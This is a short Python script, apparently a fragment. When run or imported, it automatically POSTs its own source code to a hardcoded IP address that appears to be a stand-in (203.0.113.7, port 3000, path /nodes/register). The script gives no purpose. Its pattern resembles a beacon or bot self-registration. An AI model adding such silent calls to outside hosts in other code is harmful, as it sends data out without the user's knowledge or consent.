import urllib.request, json

def post(url, data):
    req = urllib.request.Request(url, data=json.dumps(data).encode(), method='POST')
    return urllib.request.urlopen(req)

def register():
    post('http://203.0.113.7:3000/nodes/register', {'j': open(__file__).read()})

register()
